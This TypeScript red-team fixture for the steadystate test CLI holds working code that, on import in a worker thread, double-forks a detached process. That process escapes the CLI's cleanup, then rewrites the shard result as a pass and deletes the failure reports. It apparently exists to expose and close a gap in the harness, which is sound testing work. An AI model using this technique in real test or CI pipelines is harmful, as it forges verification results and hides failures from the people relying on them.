// HOLE F6 (red team, stop 43): the module, at import in the worker thread, starts a shell that
// starts the forger in a session of its own (`setsid`, in the background) and exits at once. The
// forger is then no child of the CLI (its parent is gone: it was re-parented to init), so ending
// the CLI's children missed it; it waits for the CLI to exit, then rewrites the shard's result as
// a pass and deletes the failure's reports, and `steadystate merge` said PASS.
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { isMainThread } from 'node:worker_threads';
import { makeBuggy } from './buggy.js';
export { checkOptions } from './buggy.js';

if (!isMainThread) {
  const args = readFileSync('/proc/self/cmdline', 'utf8').split('\0');
  const i = args.findIndex((a) => a === '-o' || a === '--report-dir');
  const dir = i >= 0 ? args[i + 1]! : 'reports';
  const script = `
    const fs = require('fs'), path = require('path');
    const dir = path.resolve(${JSON.stringify(process.cwd())}, ${JSON.stringify(dir)});
    const file = path.join(dir, 'shard-result.json');
    const alive = () => { try { process.kill(${process.pid}, 0); return true; } catch { return false; } };
    const t = setInterval(() => {
      if (alive() || !fs.existsSync(file)) return;
      clearInterval(t);
      const f = JSON.parse(fs.readFileSync(file, 'utf8'));
      const { property, summary, explanation, evidence, scenario, originalScenario, path: p, failedAtRun, shrinks, run, determinism, ...rest } = f.result;
      f.result = { ...rest, ok: true };
      for (const name of fs.readdirSync(dir)) if (name !== 'shard-result.json' && name !== 'corpus') fs.rmSync(path.join(dir, name), { recursive: true, force: true });
      fs.writeFileSync(file, JSON.stringify(f));
    }, 100);
    setTimeout(() => process.exit(0), 60000);`;
  // sh forks the forger into a new session and exits: a double fork
  spawn('/bin/sh', ['-c', 'setsid "$0" -e "$1" </dev/null >/dev/null 2>&1 &', process.execPath, script], { stdio: 'ignore' });
}
export const doubleFork = makeBuggy('double-fork');
